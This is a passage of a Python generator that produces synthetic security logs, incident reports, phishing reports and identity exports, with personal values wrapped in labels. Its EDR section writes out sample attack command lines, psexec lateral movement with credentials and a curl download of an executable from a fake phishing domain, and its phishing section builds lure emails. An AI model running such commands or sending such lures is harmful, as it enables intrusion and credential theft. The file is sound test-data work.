        S("psexec.exe \\\\", IPA(ip_priv(rng)), " -u ", f"CORP\\{un}", " -p ", PWD(password(rng)), " cmd.exe"),
        S("curl.exe -o C:\\Users\\Public\\a.exe ", URL(f"https://{rng.choice(PHISH_DOMAINS)}/dl/{rs(rng, 6, LOWER)}.exe")),
    ]
    cmd = rng.choice(cmds)
    doc = {
        "metadata": {"customerIDString": hx(rng, 32), "offset": rng.randint(100000, 9999999), "eventType": "DetectionSummaryEvent",
                     "eventCreationTime": int(epoch(rng)) * 1000, "version": "1.0"},
        "event": {
            "ComputerName": host, "UserName": un if chance(rng, 0.5) else f"CORP\\{un}",
            "LocalIP": IPA(ip_priv(rng)), "ExternalIP": IPA(ip_pub(rng)) if chance(rng, 0.7) else IPA(ip6(rng)),
            "MACAddress": mac(rng, "-"), "SensorId": hx(rng, 32),
            "DetectName": rng.choice(["CredentialDumping", "SuspiciousPowerShell", "MaliciousDocument", "LateralMovementPsExec", "NewLocalAdmin"]),
            "Tactic": tactic, "Technique": rng.choice(["T1003.001", "T1059.001", "T1053.005", "T1021.002", "T1136.002"]),
            "Severity": rng.randint(2, 5), "SeverityName": rng.choice(["Medium", "High", "Critical"]),
            "FileName": rng.choice(["powershell.exe", "cmd.exe", "rundll32.exe", "PsExec64.exe", "curl.exe"]),
            "FilePath": f"\\Device\\HarddiskVolume3\\Users\\{un}\\AppData\\Local\\Temp\\",
            "CommandLine": cmd,
            "SHA256String": sha256(rng), "MD5String": md5(rng), "ParentImageFileName": rng.choice(["WINWORD.EXE", "explorer.exe", "services.exe", "OUTLOOK.EXE"]),
            "ProcessStartTime": int(epoch(rng)), "ProcessId": rng.randint(1000, 99999),
            "FalconHostLink": URL(f"https://falcon.crowdstrike.com/activity/detections/detail/{hx(rng, 32)}/{rng.randint(1000000, 99999999)}"),
        },
    }
    if chance(rng, 0.4):
        doc["event"]["AssignedToName"] = PER(person(rng).full)
    if chance(rng, 0.5):
        b(f"[{ts_iso(t0)}] edr-forwarder: detection received, forwarding to SOAR\n")
    J(b, doc, 2)
    b("\n")
    if chance(rng, 0.4):
        b("\nTriage note: host owner is ", PER(pname(rng, u, ("full", "lf"))), " (", EML(email(rng, u, dom)),
          "). Network contained at ", DTM(fdt(rng, tick(rng, t0, 60, 900))), ".\n")
    return b


def k_firewall_log(rng):
    b = B()
    t = rdt(rng)
    style = rng.choice(["pan", "forti", "iptables", "asa"])
    dev = hostname(rng, "fw")
    for _ in range(rng.randint(6, 16)):
        t = tick(rng, t, 1, 40)
        src = ip_pub(rng) if chance(rng, 0.5) else ip_priv(rng)
        dst = ip_priv(rng) if chance(rng, 0.6) else ip_pub(rng)
        sp, dp = rng.randint(1024, 65535), rng.choice([22, 80, 443, 445, 3389, 53, 123, 8443, 25, 1433])
        act = rng.choice(["allow", "deny", "drop", "reset-both"])
        if style == "pan":
            b(f"{ts_syslog(t)} {dev} 1,{t.strftime('%Y/%m/%d %H:%M:%S')},{dg(rng, 12)},TRAFFIC,end,2561,",
              t.strftime('%Y/%m/%d %H:%M:%S'), ",", IPA(src), ",", IPA(dst), ",,,",
              f"{rng.choice(['allow-web', 'deny-all', 'vpn-users', 'dmz-in'])},,,{rng.choice(['ssl', 'ssh', 'ms-rdp', 'dns', 'web-browsing'])},vsys1,",
              f"{rng.choice(['trust', 'untrust', 'dmz'])},{rng.choice(['trust', 'untrust', 'dmz'])},ethernet1/{rng.randint(1, 8)},ethernet1/{rng.randint(1, 8)},",
              f"Log-Fwd,{dg(rng, 7)},1,{sp},{dp},0,0,0x{hx(rng, 6)},tcp,{act},{rng.randint(60, 90000)},{rng.randint(40, 50000)},{rng.randint(40, 50000)}\n")
        elif style == "forti":
            b(f'date={t.strftime("%Y-%m-%d")} time={t.strftime("%H:%M:%S")} devname="{dev}" devid="FG100F{dg(rng, 10)}" logid="0000000013" ',
              'type="traffic" subtype="forward" level="notice" srcip=', IPA(src), f" srcport={sp} srcintf=\"port{rng.randint(1, 9)}\" dstip=",
              IPA(dst), f' dstport={dp} proto=6 action="{act}" policyid={rng.randint(1, 200)} service="{rng.choice(["HTTPS", "SSH", "RDP", "SMB", "DNS"])}" ',
              f'duration={rng.randint(0, 3000)} sentbyte={rng.randint(0, 900000)} rcvdbyte={rng.randint(0, 900000)}\n')
        elif style == "iptables":
            b(f"{ts_syslog(t)} {dev} kernel: [{rng.randint(1000, 999999)}.{dg(rng, 6)}] {rng.choice(['IPTABLES-DROP', 'UFW BLOCK', 'FW-INPUT-REJECT'])}: ",
              f"IN=eth0 OUT= MAC={mac(rng).lower()}:{mac(rng).lower()[:5]} SRC=", IPA(src), " DST=", IPA(dst),
              f" LEN={rng.randint(40, 1500)} TOS=0x00 PREC=0x00 TTL={rng.randint(30, 128)} ID={rng.randint(1, 65535)} PROTO=TCP SPT={sp} DPT={dp} WINDOW={rng.randint(1024, 65535)} RES=0x00 SYN URGP=0\n")
        else:
            b(f"{ts_syslog(t)} {dev} : %ASA-{rng.choice(['4-106023', '6-302013', '6-302014'])}: ",
              rng.choice(["Deny tcp src outside:", "Built inbound TCP connection 1 for outside:", "Teardown TCP connection for outside:"]),
              IPA(src), f"/{sp} dst inside:", IPA(dst), f"/{dp} by access-group \"outside_access_in\" [0x{hx(rng, 8)}, 0x0]\n")
    return b


def k_proxy_log(rng):
    b = B()
    co, dom = company(rng)
    t = rdt(rng)
    users = [person(rng) for _ in range(rng.randint(1, 4))]
    style = rng.choice(["squid", "zscaler", "bluecoat"])
    sites = ["https://www.google.com/search?q=" + rng.choice(["vpn+error+809", "how+to+export+outlook+contacts", "free+pdf+converter"]),
             "https://outlook.office365.com/owa/", "https://github.com/" + rng.choice(["torvalds/linux", "microsoft/vscode", "psf/requests"]),
             phish_url(rng), "https://drive.google.com/file/d/" + rs(rng, 33, B64URL) + "/view",
             "https://pastebin.com/raw/" + rs(rng, 8), "https://www.linkedin.com/feed/",
             "https://update.microsoft.com/v6/ClientWebService/client.asmx", "https://slack.com/api/rtm.connect",
             "https://cdn.jsdelivr.net/npm/jquery@3.7.1/dist/jquery.min.js", "https://mega.nz/folder/" + rs(rng, 8)]
    for _ in range(rng.randint(6, 14)):
        t = tick(rng, t, 1, 120)
        u = rng.choice(users)
        cip = ip_priv(rng)
        site = rng.choice(sites)
        code = rng.choice([200, 200, 200, 304, 403, 407, 302])
        if style == "squid":
            b(f"{t.timestamp():.3f} {rng.randint(5, 9000):>6} ", IPA(cip), f" TCP_{rng.choice(['MISS', 'TUNNEL', 'DENIED', 'HIT'])}/{code} {rng.randint(300, 900000)} ",
              rng.choice(["GET", "CONNECT", "POST"]), " ", URL(site), " ", EML(email(rng, u, dom)) if chance(rng, 0.4) else username(rng, u),
              f" HIER_DIRECT/{'-'} {rng.choice(['text/html', 'application/json', '-', 'application/octet-stream'])}\n")
        elif style == "zscaler":
            b(ts_plain(t), f"\treason={rng.choice(['Allowed', 'Blocked: Phishing', 'Blocked: Newly Registered Domain', 'Caution'])}\tlogin=", EML(email(rng, u, dom)),
              "\tcip=", IPA(cip), "\tsip=", IPA(ip_pub(rng)), "\turl=", URL(site),
              f"\tcat={rng.choice(['Web Search', 'Phishing', 'Professional Services', 'File Sharing', 'Social Networking'])}\trespcode={code}\n")
        else:
            b(t.strftime("%Y-%m-%d %H:%M:%S"), f" {rng.randint(1, 9000)} ", IPA(cip), f" {code} TCP_NC_MISS {rng.randint(300, 90000)} ",
              username(rng, u), " ", rng.choice(["GET", "POST"]), " ", URL(site), f" - {rng.choice(['OBSERVED', 'DENIED'])} \"{rng.choice(['Technology/Internet', 'Suspicious', 'Business/Economy'])}\" -\n")
    return b


def k_vpn_log(rng):
    b = B()
    co, dom = company(rng)
    t = rdt(rng)
    style = rng.choice(["anyconnect", "globalprotect", "openvpn"])
    users = [person(rng) for _ in range(rng.randint(1, 3))]
    for _ in range(rng.randint(5, 12)):
        t = tick(rng, t, 5, 600)
        u = rng.choice(users)
        pub = ip_pub(rng) if chance(rng, 0.85) else ip6(rng)
        asg = f"10.{rng.randint(100, 120)}.{rng.randint(0, 255)}.{rng.randint(2, 254)}"
        g = rng.choice(GEO)
        if style == "anyconnect":
            b(f"{ts_syslog(t)} {hostname(rng, 'fw')} : %ASA-{rng.choice(['6-113039', '4-722051', '6-722022', '4-113019'])}: Group <RA-VPN> User <",
              EML(email(rng, u, dom)) if chance(rng, 0.6) else username(rng, u), "> IP <", IPA(pub), "> ",
              rng.choice([S("IPv4 Address <", IPA(asg), "> IPv6 address <::> assigned to session"),
                          S("AnyConnect parent session started."),
                          S("Session disconnected. Session Type: SSL, Duration: ", f"{rng.randint(0, 9)}h:{rng.randint(0, 59):02d}m:{rng.randint(0, 59):02d}s",
                            f", Bytes xmt: {rng.randint(1000, 99999999)}, Reason: {rng.choice(['User Requested', 'Idle Timeout', 'Max time exceeded'])}")]),
              "\n")
        elif style == "globalprotect":
            b(f"{t.strftime('%Y/%m/%d %H:%M:%S')},{dg(rng, 12)},GLOBALPROTECT,0,2561,{rng.choice(['gateway-auth', 'portal-auth', 'gateway-connected', 'gateway-logout'])},",
              f"{rng.choice(['success', 'failure'])},,", EML(email(rng, u, dom)), ",", IPA(pub), ",", LOC(g[1]), ",",
              hostname(rng, "lap"), ",", IPA(asg), f",,{rng.choice(['Windows', 'macOS'])},{version(rng)},",
              f"{rng.choice(['SAML', 'LDAP', 'client certificate'])},\n")
        else:
            b(t.strftime("%a %b %d %H:%M:%S %Y"), " ", IPA(pub), f":{rng.randint(1024, 65535)} ",
              rng.choice([S("[", username(rng, u), "] Peer Connection Initiated with [AF_INET]", IPA(pub), f":{rng.randint(1024, 65535)}"),
                          S("TLS Auth Error: Auth Username/Password verification failed for peer"),
                          S("MULTI_sva: pool returned IPv4=", IPA(asg), ", IPv6=(Not enabled)"),
                          S("VERIFY OK: depth=0, CN=", username(rng, u))]), "\n")
    if chance(rng, 0.5):
        u = rng.choice(users)
        g = rng.choice(GEO)
        b("\n# analyst: ", PER(pname(rng, u, ("full", "first", "lf"))), " normally connects from ", LOC(city_of(rng)),
          "; the session from ", LOC(f"{g[0]}, {g[1]}"), " is ", rng.choice(["unexpected - escalated to ", "confirmed travel per "]),
          ticket(rng, "jira"), "\n")
    return b


def k_sshd_log(rng):
    b = B()
    t = rdt(rng)
    host = hostname(rng, "srv")
    attacker = ip_pub(rng)
    real = person(rng)
    un = username(rng, real)
    for _ in range(rng.randint(8, 18)):
        t = tick(rng, t, 0, 20)
        pid = rng.randint(1000, 99999)
        k = rng.random()
        if k < 0.45:
            b(f"{ts_syslog(t)} {host} sshd[{pid}]: Failed password for {rng.choice(['invalid user ', ''])}{rng.choice(['admin', 'root', 'oracle', 'ubuntu', 'test', 'git', 'postgres'])} from ",
              IPA(attacker), f" port {rng.randint(30000, 65000)} ssh2\n")
        elif k < 0.6:
            b(f"{ts_syslog(t)} {host} sshd[{pid}]: Accepted publickey for {un} from ", IPA(ip_priv(rng)),
              f" port {rng.randint(30000, 65000)} ssh2: ED25519 SHA256:{rs(rng, 43, B64)}\n")
        elif k < 0.7:
            b(f"{ts_syslog(t)} {host} sshd[{pid}]: pam_unix(sshd:session): session opened for user {un}(uid={rng.randint(1000, 5000)}) by (uid=0)\n")
        elif k < 0.8:
            b(f"{ts_syslog(t)} {host} sshd[{pid}]: Disconnected from authenticating user root ", IPA(attacker),
              f" port {rng.randint(30000, 65000)} [preauth]\n")
        elif k < 0.9:
            b(f"{ts_syslog(t)} {host} sudo: {un} : TTY=pts/{rng.randint(0, 4)} ; PWD=/home/{un} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx\n")
        else:
            b(f"{ts_syslog(t)} {host} fail2ban.actions[{pid}]: NOTICE [sshd] Ban ", IPA(attacker), "\n")
    if chance(rng, 0.4):
        g = rng.choice(GEO)
        b("\n# whois ", IPA(attacker), ": ", rng.choice(["AS14061 DigitalOcean", "AS16276 OVH SAS", "AS4134 Chinanet", "AS9009 M247 Ltd"]),
          ", ", LOC(f"{g[0]}, {g[1]}"), "\n")
    return b


def k_winevent_xml(rng):
    b = B()
    co, dom = company(rng)
    t = rdt(rng)
    n = rng.randint(1, 3)
    for _ in range(n):
        t = tick(rng, t, 1, 300)
        eid = rng.choice([4625, 4624, 4740, 4771, 4648])
        p = person(rng)
        un = username(rng, p)
        ip = ip_priv(rng) if chance(rng, 0.6) else ip_pub(rng)
        b('<Event xmlns="', URL("http://schemas.microsoft.com/win/2004/08/events/event"), '">\n  <System>\n',
          f'    <Provider Name="Microsoft-Windows-Security-Auditing" Guid="{{{_uuid(rng)}}}" />\n',
          f"    <EventID>{eid}</EventID>\n    <Version>{rng.randint(0, 2)}</Version>\n",
          f'    <TimeCreated SystemTime="{t.strftime("%Y-%m-%dT%H:%M:%S")}.{dg(rng, 7)}Z" />\n',
          f"    <EventRecordID>{rng.randint(1000000, 99999999)}</EventRecordID>\n",
          f"    <Computer>{hostname(rng, 'srv').upper()}.corp.{dom}</Computer>\n  </System>\n  <EventData>\n",
          f'    <Data Name="SubjectUserSid">S-1-5-18</Data>\n',
          f'    <Data Name="TargetUserName">{un}</Data>\n', f'    <Data Name="TargetDomainName">CORP</Data>\n',
          f'    <Data Name="Status">0x{rng.choice(["c000006d", "c000006a", "c0000234", "0"])}</Data>\n',
          f'    <Data Name="LogonType">{rng.choice([2, 3, 10])}</Data>\n',
          f'    <Data Name="WorkstationName">{hostname(rng, "ws")}</Data>\n',
          '    <Data Name="IpAddress">', IPA(ip), '</Data>\n',
          f'    <Data Name="IpPort">{rng.randint(1024, 65535)}</Data>\n  </EventData>\n</Event>\n')
    if chance(rng, 0.6):
        p = person(rng)
        b("\n", rng.choice(["Note", "Analyst", "Comment"]), ": ", PER(pname(rng, p, ("full", "lf"))),
          *rng.choice([[" confirmed the failed logons were from an old mapped drive."],
                       [" reported the lockout via phone (", PHN(phone(rng)), ")."]]), "\n")
    return b


def k_incident_report(rng):
    b = B()
    co, dom = company(rng)
    ic, author, eng = person(rng), person(rng), person(rng)
    t0 = rdt(rng)
    scen = rng.choice(["stuffing", "ransom", "awskey", "bucket", "bec", "insider"])
    tk = ticket(rng, rng.choice(["jira", "snow"]))
    b(rng.choice(["SECURITY INCIDENT REPORT", "Incident Report", "CSIRT Incident Summary"]), f" - {tk}\n")
    b(f"Classification: {rng.choice(['Confidential', 'Internal', 'TLP:AMBER', 'TLP:RED'])}\n")
    b("Prepared by: ", PER(pname(rng, author, ("full", "fml"))), f", {rng.choice(['SOC Analyst', 'Security Engineer', 'CSIRT Lead'])}\n")
    b("Incident commander: ", PER(ic.full), "\n")
    b("Report date: ", DTM(fdate(rng, (t0 + _dt.timedelta(days=rng.randint(2, 14))).date())), "\n")
    b(f"Severity: SEV-{rng.randint(1, 3)}    Status: {rng.choice(['Closed', 'Contained', 'Monitoring'])}\n\n")
    b("1. Summary\n")
    ip_a = ip_pub(rng)
    if scen == "stuffing":
        n = rng.randint(40, 4000)
        b("On ", DTM(fdt(rng, t0)), f" the customer portal received a credential-stuffing burst of about {rng.randint(20, 400)}k login attempts from ",
          f"{rng.randint(200, 9000)} distinct addresses. {n} accounts were successfully accessed. The top source was ", IPA(ip_a),
          " (", LOC(rng.choice(GEO)[1]), "). No payment data was exposed; stored cards are tokenised (e.g. ", masked_cc(rng), ").\n")
    elif scen == "ransom":
        h = hostname(rng, "srv")
        b("On ", DTM(fdt(rng, t0)), f" files on {h} (", IPA(ip_priv(rng)), ") began to be renamed with the extension .",
          rs(rng, 5, LOWER), ". The initial access vector was a VPN account belonging to ", PER(eng.full),
          " whose password had been reused on a breached site. The attacker connected from ", IPA(ip_a), ".\n")
    elif scen == "awskey":
        ak = aws_ak(rng)
        b("On ", DTM(fdate(rng, t0.date())), " GitHub secret scanning notified us that an AWS access key (", AKY(ak),
          ") had been pushed to a public fork by ", PER(eng.full), ". The key was used from ", IPA(ip_a),
          " to launch 38 GPU instances in ", rng.choice(CLOUD_REGIONS), " before it was deactivated ", duration(rng), " later.\n")
    elif scen == "bucket":
        b("An external researcher (", PER(person(rng).full), ", ", EML(email(rng, person(rng))), ") reported on ", DTM(fdate(rng, t0.date())),
          " that the bucket s3://", rs(rng, 6, LOWER), "-exports-prod was publicly listable. It contained ", str(rng.randint(3, 90)),
          " CSV files with customer names, email addresses and phone numbers.\n")
    elif scen == "bec":
        bank = iban(rng, rng.choice(["GB", "DE", "NL", "IE"]))
        b("On ", DTM(fdt(rng, t0)), " the accounts payable team received an email, apparently from supplier contact ", PER(person(rng).full),
          ", asking to change bank details to ", IBN(fmt_iban(rng, bank)), ". A payment of ", amount(rng, "EUR"), " was released before the fraud was detected.\n")
    else:
        b("On ", DTM(fdate(rng, t0.date())), " DLP flagged that ", PER(eng.full), " uploaded ", str(rng.randint(200, 9000)),
          " files to a personal cloud account two days before leaving the company. The uploads originated from ", IPA(ip_priv(rng)), ".\n")
    b("\n2. Timeline (all times UTC)\n")
    t = t0 - _dt.timedelta(minutes=rng.randint(5, 60))
    evts = ["first malicious activity observed", "SIEM alert fired and was acknowledged by on-call", "incident declared, bridge opened",
            "affected accounts disabled", "firewall block applied", "credentials rotated", "customer communication approved",
            "monitoring confirms no further activity"]
    for e in evts[:rng.randint(4, len(evts))]:
        t = tick(rng, t, 120, 5400)
        fmt = rng.choice(["%H:%M", "%Y-%m-%d %H:%M", "%d %b %H:%M"])
        b(t.strftime(fmt), rng.choice([" - ", "  ", " | "]), e, "\n")
    b("\n3. Indicators of compromise\n")
    b("- ", IPA(ip_a), "\n")
    for _ in range(rng.randint(1, 3)):
        b("- ", IPA(ip_pub(rng)), rng.choice(["", " (Tor exit)", " (VPS)", " (residential proxy)"]), "\n")
    b("- ", defang(phish_url(rng)), "\n")
    b(f"- SHA256 {sha256(rng)}\n")
    b("\n4. Root cause\n")
    b({"stuffing": "MFA was not enforced for legacy authentication protocols on the customer portal.",
       "ransom": "The VPN did not require MFA and the reused password was not caught by breached-password screening.",
       "awskey": "A long-lived credential was committed to source control.",
       "bucket": "The bucket policy was changed during a migration and never reviewed.",
       "bec": "Supplier bank-detail changes were not verified by a call-back.",
       "insider": "Personal cloud storage was not blocked for departing employees."}[scen], "\n")
    b("\n5. Action items\n")
    b("| # | Action | Owner | Due |\n|---|--------|-------|-----|\n")
    for i in range(rng.randint(2, 5)):
        o = person(rng)
        b(f"| {i + 1} | {rng.choice(['Enforce MFA for all VPN users', 'Enable S3 Block Public Access org-wide', 'Add call-back verification for vendor changes', 'Deploy pre-commit secret scanning', 'Review conditional access exclusions', 'Tabletop exercise for ransomware'])} | ",
          PER(pname(rng, o, ("full", "first", "lf"))), " | ", DTM(fdate(rng, (t0 + _dt.timedelta(days=rng.randint(7, 90))).date())), " |\n")
    if chance(rng, 0.5):
        b("\nContact: ", EML(email(rng, author, dom)), " / ", PHN(phone(rng)), "\n")
    return b


def k_postmortem(rng):
    b = B()
    co, dom = company(rng)
    t0 = rdt(rng)
    svc = rng.choice(["checkout-api", "auth-service", "payments-gateway", "search", "notifications", "customer-portal"])
    owner, ic = person(rng), person(rng)
    b(f"# Post-mortem: {svc} {rng.choice(['outage', 'degradation', 'elevated 5xx'])} ({ticket(rng, 'jira')})\n\n")
    b("**Date:** ", DTM(fdate(rng, t0.date(), weekday=chance(rng, 0.3))), "  \n")
    b("**Authors:** ", PER(owner.full), ", ", PER(pname(rng, person(rng), ("full", "first"))), "  \n")
    b("**Incident commander:** ", PER(ic.full), "  \n")
    b(f"**Duration:** {duration(rng)}  \n**Status:** Final\n\n")
    b("## Summary\n\n")
    b(f"Between ", DTM(fdt(rng, t0, "en")), " and ", DTM(ftime(rng, (t0.hour + rng.randint(1, 3)) % 24, rng.randint(0, 59), "en")),
      f" {svc} returned HTTP 503 for roughly {rng.randint(5, 80)}% of requests. ",
      rng.choice(["A config push", "An expired TLS certificate", "Connection pool exhaustion on the primary database",
                  "A bad feature flag", "A BGP route leak at our upstream provider"]),
      f" caused the failure. Deploy {sha1(rng)[:12]} (release {version(rng)}) was rolled back.\n\n")
    b("## Impact\n\n")
    b(f"- ~{rng.randint(1, 900)}k failed requests; {rng.randint(10, 2000)} support tickets (e.g. {ticket(rng, 'zendesk')}).\n")
    b("- Customers in ", LOC(city_of(rng)), " and ", LOC(rng.choice(COUNTRY["en"])), " were most affected.\n")
    b(f"- Error budget burn: {rng.randint(5, 99)}% of the 30-day budget.\n\n")
    b("## Timeline\n\n")
    t = t0
    for e in ["deploy started", "latency alert fired (p99 > 2s)", "PagerDuty page acknowledged", "rollback initiated", "error rate back to baseline"]:
        b(t.strftime("%H:%M"), f" {e}", "\n" if chance(rng, 0.6) else f" ({hostname(rng, 'srv')})\n")
        t = tick(rng, t, 60, 1500)
    b("\n## Technical detail\n\n")
    b(f"The primary `{hostname(rng, 'db')}` (", IPA(ip_priv(rng)), ") hit max_connections=", str(rng.choice([100, 200, 500])),
      ". Replica ", IPA(ip_priv(rng)), " lagged by ", duration(rng), ". Grafana: ", URL(f"https://grafana.{dom}/d/{rs(rng, 9)}/{svc}?orgId=1&from={epoch(rng)}000"), "\n\n")
    b("## Action items\n\n")
    for _ in range(rng.randint(2, 4)):
        o = person(rng)
        b(f"- [ ] {rng.choice(['Add connection-pool saturation alert', 'Automate cert renewal', 'Canary config pushes', 'Load-test failover', 'Document rollback runbook'])} - ",
          *(["@", username(rng, o), " (", PER(o.first), ")"] if chance(rng, 0.3) else [PER(o.first) if chance(rng, 0.5) else PER(o.full)]), " - due ",
          DTM(fdate(rng, (t0 + _dt.timedelta(days=rng.randint(5, 60))).date())), "\n")
    return b


def k_phishing_report(rng):
    b = B()
    co, dom = company(rng)
    rep = person(rng)
    rem = email(rng, rep, dom)
    pd_ = rng.choice(PHISH_DOMAINS)
    t0 = rdt(rng)
    brand = rng.choice(["Microsoft 365", "DocuSign", "PayPal", "DHL Express", "Payroll Team", "IT Helpdesk", "Okta"])
    spoof_exec = person(rng)
    email_headers(b, rng, [PER(rep.full), " <", EML(rem), ">"], [EML(f"phishing@{dom}") if chance(rng, 0.6) else EML(f"security@{dom}")],
                  f"FW: {rng.choice(['Action required: password expires today', 'Shared document: Q3 bonus plan', 'Your parcel could not be delivered', 'Voicemail received (0:42)', 'Urgent wire request'])}",
                  tick(rng, t0, 300, 9000))
    b("\n", rng.choice(["Hi security team,", "Hello,", "SOC -", "Hey team,"]), "\n\n",
      rng.choice(["Got this just now, looks fake. I did NOT click anything.", "Is this legit? It has our logo but the sender looks weird.",
                  "Reporting this, I entered my password before noticing, sorry!", "Forwarding with headers as requested in the intranet guide."]),
      "\n\n", PER(rep.first), "\n")
    if chance(rng, 0.5):
        b(PER(rep.full), " | ", rng.choice(["Accounts Payable", "HR Business Partner", "Sales Operations", "Facilities"]), " | ", PHN(phone(rng)), "\n")
    b("\n-------- Original message headers --------\n")
    sip = ip_pub(rng)
    relay = ip_pub(rng)
    b("Return-Path: <", EML(f"bounce-{rs(rng, 8, LOWER + DIG)}@{pd_}"), ">\n")
    b(f"Received: from mail{rng.randint(1, 9)}.{pd_} (mail{rng.randint(1, 9)}.{pd_} [", IPA(sip), "])\n",
      f"        by mx{rng.randint(1, 3)}.{dom} (Postfix) with ESMTPS id {rs(rng, 10, UPPER + DIG)}\n",
      f"        for <", EML(rem), ">; ", rfc2822(t0), "\n")
    b("Received: from [", IPA(relay), "] (unknown [", IPA(relay), "])\n",
      f"        by mail{rng.randint(1, 9)}.{pd_} (Postfix) with ESMTPSA id {rs(rng, 10, UPPER + DIG)};\n",
      f"        {rfc2822(tick(rng, t0, -120, -2))}\n")
    b(f"Authentication-Results: mx1.{dom}; spf={rng.choice(['fail', 'softfail', 'pass'])} (sender IP is ", IPA(sip), f") smtp.mailfrom={pd_}; ",
      f"dkim={rng.choice(['none', 'fail', 'pass'])} header.d={pd_}; dmarc={rng.choice(['fail', 'none'])} header.from={pd_}\n")
    if chance(rng, 0.6):
        b("X-Originating-IP: [", IPA(relay), "]\n")
    if chance(rng, 0.4) and brand != "Urgent":
        b('From: "', PER(spoof_exec.full), '" <', EML(f"{spoof_exec.rfirst}.{spoof_exec.rlast}@{rng.choice(FREEMAIL['en'])}"), ">\n")
    else:
        b(f'From: "{brand}" <', EML(f"{rng.choice(['no-reply', 'notifications', 'support', 'account-security'])}@{pd_}"), ">\n")
    if chance(rng, 0.5):
        b("Reply-To: ", EML(f"{rs(rng, 6, LOWER)}{rng.randint(10, 99)}@{rng.choice(['gmail.com', 'outlook.com', 'proton.me'])}"), "\n")
    b("To: ", EML(rem), "\n")
    b(f"Date: {rfc2822(t0)}\n")
    b(f"X-MS-Exchange-Organization-Network-Message-Id: {_uuid(rng)}\n")
    b(f"X-MS-Exchange-Organization-SCL: {rng.randint(1, 9)}\n")
    b('Content-Type: text/html; charset="utf-8"\n\n')
    b("-------- Body (text) --------\n")
    pu = phish_url(rng, pd_)
    b("Dear ", PER(rep.first if chance(rng, 0.7) else rep.full), ",\n\n")
    b(rng.choice(["Your mailbox password expires on ", "A document was shared with you and will be deleted on ", "Your delivery is on hold until "]),
      DTM(fdt(rng, future_dt(rng, t0, (0, 2)), "en") if chance(rng, 0.5) else fdate(rng, (t0 + _dt.timedelta(days=1)).date())),
      ". To keep access, verify your account here:\n", URL(pu), "\n\n")
    b(f"Thank you,\n{brand} Team\n\n")
    b("-------- SOC triage --------\n")
    an = person(rng)
    b(f"Verdict: {rng.choice(['Malicious - credential harvesting', 'Malicious - BEC', 'Spam', 'Simulated phish (KnowBe4 campaign)'])}\n")
    b("IOCs: ", defang(pu), " ; sender IP ", IPA(sip), f" ; domain age {rng.randint(1, 30)} days\n")
    b(f"Actions: blocked {pd_.replace('.', '[.]')} at the mail gateway, purged from {rng.randint(2, 600)} mailboxes ({ticket(rng, 'jira')}).\n")
    b("Analyst: ", PER(pname(rng, an, ("full", "first", "lf"))), "\n")
    return b


def k_access_review(rng):
    b = B()
    co, dom = company(rng)
    t0 = rdt(rng)
    app = rng.choice(["SAP S/4HANA", "Salesforce", "AWS Production", "Workday", "GitHub Enterprise", "Epic Hyperspace", "NetSuite", "Okta Admin"])
    b(f"# Access review campaign: {app} - Q{rng.randint(1, 4)} {t0.year}\n")
    b("# Campaign owner: ", PER(person(rng).full), "\n")
    b("# Certification deadline: ", DTM(fdate(rng, (t0 + _dt.timedelta(days=rng.randint(10, 40))).date())), "\n")
    b(f"# Export generated {ts_iso(t0, ms=False)} by iga-connector {version(rng)}\n")
    delim = rng.choice([",", ",", ";", "\t"])
    cols = ["employee_name", "email", "department", "manager", "entitlement", "decision", "comment"]
    csv_row(b, cols, delim)
    for _ in range(rng.randint(4, 11)):
        if chance(rng, 0.12):
            svc = rng.choice(["svc_backup", "svc-jenkins", "sa-reporting", "api-integration"])
            csv_row(b, [svc, L(f"{svc}@{dom}", "EMAIL_ADDRESS"), "IT", PER(person(rng).full), rng.choice(["ReadOnly", "Admin"]), "Certify",
                        "service account - owner confirmed"], delim)
            continue
        p, m = person(rng), person(rng)
        nm = pname(rng, p, ("full", "lf", "full", "upper"))
        dec = rng.choice(["Certify", "Certify", "Certify", "Revoke", "Modify"])
        comment = ""
        if dec == "Revoke":
            comment = rng.choice([S("left the company on ", DTM(fdate(rng, rdate(rng)))), S("moved to ", LOC(city_of(rng)), " team, no longer needed"),
                                  S("duplicate account"), S("inactive 120+ days")])
        elif dec == "Modify":
            comment = S("downgrade to read-only per ", PER(m.first))
        csv_row(b, [PER(nm), EML(email(rng, p, dom)), rng.choice(["Finance", "Sales", "Engineering", "HR", "Operations", "Legal"]),
                    PER(pname(rng, m, ("full", "lf"))), rng.choice(["SAP_FI_AP_CLERK", "Admin", "Developer", "ReadOnly", "PowerUser", "billing:write"]),
                    dec, comment], delim)
    return b


def k_iam_export(rng):
    b = B()
    co, dom = company(rng)
    fmt = rng.choice(["graph", "ldif", "okta_csv"])
    people = [person(rng) for _ in range(rng.randint(2, 4))]
    if fmt == "graph":
        vals = []
        for p in people:
            a = address(rng)
            e = email(rng, p, dom)
            d = {"id": _uuid(rng), "displayName": PER(p.full), "givenName": PER(p.first), "surname": PER(p.last),
                 "userPrincipalName": EML(e), "mail": EML(e), "jobTitle": rng.choice(["Accountant", "Site Reliability Engineer", "Nurse Manager", "Sales Director", "Help Desk Technician"]),
                 "mobilePhone": PHN(phone(rng, "en", True)) if chance(rng, 0.7) else None,
                 "businessPhones": [PHN(phone(rng))] if chance(rng, 0.6) else [],
                 "officeLocation": S(LOC(a.city), f" - Bldg {rng.randint(1, 6)}"),
                 "streetAddress": ADR(a.street + (", " + a.unit if a.unit else "")), "city": LOC(a.city), "state": LOC(a.region),
                 "postalCode": a.postal, "country": LOC("United States"), "usageLocation": "US",
                 "employeeId": dg(rng, 6), "employeeHireDate": DTM(rdate(rng, 2015, 2024).isoformat() + "T00:00:00Z"),
                 "onPremisesSamAccountName": username(rng, p), "accountEnabled": chance(rng, 0.85),
                 "createdDateTime": ts_iso(rdt(rng, 2015, 2024), ms=False), "lastPasswordChangeDateTime": ts_iso(rdt(rng), ms=False)}
            vals.append(d)
        J(b, {"@odata.context": URL("https://graph.microsoft.com/v1.0/$metadata#users"), "@odata.nextLink":
              URL(f"https://graph.microsoft.com/v1.0/users?$skiptoken={rs(rng, 40, B64URL)}"), "value": vals}, 2)
        b("\n")
    elif fmt == "ldif":
        b(f"# LDIF export from ldap://dc01.corp.{dom} (base DC=corp,DC={dom.split('.')[0].replace('-', '')},DC={dom.split('.')[-1]})\n\n")
        for p in people:
            a = address(rng)
            b("dn: CN=", PER(p.full), f",OU=Users,OU=Corp,DC=corp,DC={dom.split('.')[0].replace('-', '')},DC={dom.split('.')[-1]}\n")
            b("objectClass: user\ncn: ", PER(p.full), "\nsn: ", PER(p.last), "\ngivenName: ", PER(p.first), "\n")
